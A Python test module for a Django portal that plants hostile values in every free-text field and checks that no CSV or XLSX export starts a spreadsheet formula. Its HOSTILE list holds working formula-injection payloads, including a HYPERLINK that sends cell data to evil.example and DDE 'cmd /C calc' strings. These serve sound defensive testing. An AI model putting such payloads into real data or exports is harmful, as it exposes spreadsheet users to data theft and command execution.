"""CSV formula injection: no cell of any CSV the portal writes starts a formula.

A hostile value is planted in every free-text field of every product model
(straight into the database, as a careless import or an old row would leave
it), then every CSV the portal writes is read back: the API's ``?format=csv``
for each routed resource (list and one object), each CSV in the open-data ZIP,
and the admin's django-import-export export (CSV and XLSX) of every model
admin that offers one. No cell may start with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return; each output must show at least one neutralised value, so
a test that planted nothing cannot pass.

A new CSV writer is held to the rule twice: ``csv.writer``/``csv.DictWriter``
may appear only in ``corridor/csvsafe.py``, and every django-import-export
resource of the product derives from the one that escapes its cells.
"""

import csv
import datetime
import io
import json
import re
import zipfile
from itertools import count
from pathlib import Path

import pytest
from django.apps import apps
from django.conf import settings
from django.contrib import admin
from django.db import models
from django.forms import BooleanField
from django.urls import reverse
from django.utils import timezone
from import_export.admin import ExportMixin
from import_export.formats.base_formats import CSV
from import_export.formats.base_formats import XLSX
from import_export.resources import Resource
from openpyxl import load_workbook
from rest_framework.test import APIClient

from corridor.api.tests.matrix_results import results_world
from corridor.api.tests.world import build_world
from corridor.api.urls import router
from corridor.digests.models import Digest
from corridor.insight.opendata import build_archive

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    '+SUM(1+1)*cmd|" /C calc"!A0',
    '-2+3+cmd|" /C calc"!A0',
    '@SUM(1+1)*cmd|" /C calc"!A0',
    "\t=1+1",
    "\r=1+1",
]
# Outputs of codes, slugs, dates and numbers only: nothing to plant in.
NO_FREE_TEXT = {
    "api membership list",
    "api digest list",
    "open data memberships.csv",
    "open data use_case_partners.csv",
    "open data corridor_index.csv",
}
PRODUCT_APPS = ("coalitions", "interventions", "usecases", "corridor.")
# Fields that are codes, keys or secrets rather than text a person typed.
NOT_TEXT = {"password"}


def text_fields(model) -> list[models.Field]:
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and not isinstance(field, models.SlugField)
        and not field.choices
        and not field.primary_key
        and field.name not in NOT_TEXT
    ]


def plant_everywhere() -> int:
    """Every free-text field of every product row gets a hostile value; returns how many."""
    serial = count(1)
    planted = 0
    for model in apps.get_models():
        config = model._meta.app_config
        if not config.name.startswith(PRODUCT_APPS) or not model._meta.managed:
            continue
        if model._meta.proxy:
            continue
        fields = text_fields(model)
        if not fields:
            continue
        for pk in model._base_manager.values_list("pk", flat=True):
            updates = {}
            for field in fields:
                n = next(serial)
                suffix = f" #{n}"  # unique fields stay unique
                room = (field.max_length or 10_000) - len(suffix)
                if room < 1:
                    continue
                updates[field.name] = HOSTILE[n % len(HOSTILE)][:room] + suffix
            model._base_manager.filter(pk=pk).update(**updates)
            planted += len(updates)
    return planted


def neutralised(name: str, rows) -> set[str]:
    """Assert no cell starts a formula; return the dangerous starts seen quoted."""
    seen = set()
    for row in rows:
        for cell in row:
            if not isinstance(cell, str):
                continue
            assert not cell.startswith(DANGEROUS), f"{name}: {cell!r}"
            if cell.startswith("'") and cell[1:2] and cell[1] in DANGEROUS:
                seen.add(cell[1])
    return seen


def read_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.fixture
def hostile_world(board, reviewer, partner_a, partner_b, org_a, org_b, intervention):
    world = build_world(
        board=board,
        reviewer=reviewer,
        partner_a=partner_a,
        partner_b=partner_b,
        org_a=org_a,
        org_b=org_b,
        intervention=intervention,
    )
    # Indicators and their measurements, in every role's sight (the results' API).
    results_world(world)
    # A webhook endpoint of the Board's: its description is text a person typed.
    from corridor.webhooks.services import create_endpoint

    create_endpoint(
        actor=board, url="https://hooks.example.org/corridor", event_types=["milestone.done"]
    )
    moment = timezone.now()
    Digest.objects.create(
        frequency=Digest.Frequency.WEEKLY,
        period_start=moment - datetime.timedelta(days=7),
        period_end=moment,
        generated_at=moment,
    )
    board.is_staff = True
    board.save()
    assert plant_everywhere() > 100
    board.refresh_from_db()
    return world


def api_outputs(client) -> dict[str, list[list[str]]]:
    outputs = {}
    for _prefix, _viewset, basename in router.registry:
        url = reverse(f"api:{basename}-list")
        response = client.get(url, {"format": "csv"})
        assert response.status_code == 200, (basename, response.content)
        assert response["Content-Type"].startswith("text/csv")
        text = b"".join(response.streaming_content).decode()
        rows = read_rows(text)
        outputs[f"api {basename} list"] = rows
        header, first = rows[0], rows[1] if len(rows) > 1 else None
        # ``url`` links the row's own API object (a webhook's is its receiver's).
        if first is not None and "url" in header and "/api/v1/" in first[header.index("url")]:
            detail = client.get(first[header.index("url")], {"format": "csv"})
            assert detail.status_code == 200, (basename, detail.content)
            outputs[f"api {basename} detail"] = read_rows(detail.content.decode())
    return outputs


def open_data_outputs() -> dict[str, list[list[str]]]:
    archive = zipfile.ZipFile(io.BytesIO(build_archive()))
    package = json.loads(archive.read("datapackage.json"))
    outputs = {}
    for resource in package["resources"]:
        rows = read_rows(archive.read(resource["path"]).decode("utf-8"))
        assert_typed_columns_untouched(resource, rows)
        outputs[f"open data {resource['path']}"] = rows
    return outputs


CASTS = {
    "integer": int,
    "number": float,
    "date": datetime.date.fromisoformat,
    "boolean": lambda value: {"true": True, "false": False}[value],
}


def assert_typed_columns_untouched(resource: dict, rows: list[list[str]]) -> None:
    """Escaping is for text: every non-string column still casts to its declared type."""
    fields = resource["schema"]["fields"]
    for row in rows[1:]:
        for field, value in zip(fields, row, strict=True):
            if field["type"] != "string" and value != "":
                CASTS[field["type"]](value)


def admin_outputs(client) -> dict[str, list[list]]:
    outputs = {}
    exporting = [
        (model, model_admin)
        for model, model_admin in admin.site._registry.items()
        if isinstance(model_admin, ExportMixin)
    ]
    assert exporting, "the admin offers no export at all?"
    for model, model_admin in exporting:
        url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_export")
        form = client.get(url).context["form"]
        formats = model_admin.get_export_formats()
        every_field = {
            name: "on" for name, field in form.fields.items() if isinstance(field, BooleanField)
        }
        for kind in (CSV, XLSX):
            if kind not in formats:
                continue
            data = {"format": formats.index(kind), "resource": 0, **every_field}
            response = client.post(url, data)
            assert response.status_code == 200
            assert "attachment" in response["Content-Disposition"]
            name = f"admin {model._meta.label} {kind.__name__}"
            if kind is CSV:
                outputs[name] = read_rows(response.content.decode("utf-8-sig"))
            else:
                sheet = load_workbook(io.BytesIO(response.content)).active
                assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
                outputs[name] = [[cell.value for cell in row] for row in sheet.iter_rows()]
    return outputs


@pytest.mark.django_db
def test_use_case_title_formula_is_quoted_in_the_api_csv(hostile_world):
    use_case = hostile_world.uc_b_selected
    use_case.title = HOSTILE[0]
    use_case.save(update_fields=["title"])
    response = APIClient().get("/api/v1/use-cases/", {"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [row["title"] for row in rows] == ["'" + HOSTILE[0]]


@pytest.mark.django_db
def test_no_csv_the_portal_writes_starts_a_formula(hostile_world, client, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    api = APIClient()
    api.force_login(hostile_world.board)
    client.force_login(hostile_world.board)
    outputs = {**api_outputs(api), **open_data_outputs(), **admin_outputs(client)}

    seen_everywhere = set()
    unreached = []
    for name, rows in outputs.items():
        seen = neutralised(name, rows)
        if not seen:
            unreached.append(name)
        seen_everywhere |= seen
    # Each output shows a quoted value, so the planting reached it; only
    # outputs made of codes, slugs, dates and numbers may show none.
    assert set(unreached) <= NO_FREE_TEXT, unreached
    assert seen_everywhere == set(DANGEROUS)


PRODUCT_CODE = ("coalitions", "interventions", "usecases", "corridor", "bench")
CSV_WRITER = re.compile(
    r"\bcsv\s*\.\s*(writer|DictWriter)\b|\bfrom\s+csv\s+import\b[^\n]*\b(writer|DictWriter)\b"
)


def test_only_csvsafe_builds_csv_writers():
    base = Path(settings.BASE_DIR)
    offenders = []
    for package in PRODUCT_CODE:
        for path in (base / package).rglob("*.py"):
            relative = path.relative_to(base).as_posix()
            if "/tests/" in relative or relative == "corridor/csvsafe.py":
                continue
            if CSV_WRITER.search(path.read_text(encoding="utf-8")):
                offenders.append(relative)
    assert offenders == [], "write CSV through corridor.csvsafe.writer"


def test_every_import_export_resource_escapes_its_cells():
    from corridor.insight.imports import FormulaSafeResource

    def subclasses(cls):
        for sub in cls.__subclasses__():
            yield sub
            yield from subclasses(sub)

    ours = {
        cls
        for cls in subclasses(Resource)
        if cls.__module__.startswith(PRODUCT_CODE) and ".tests" not in cls.__module__
    }
    assert ours, "no resources found?"
    assert {cls for cls in ours if not issubclass(cls, FormulaSafeResource)} == set()
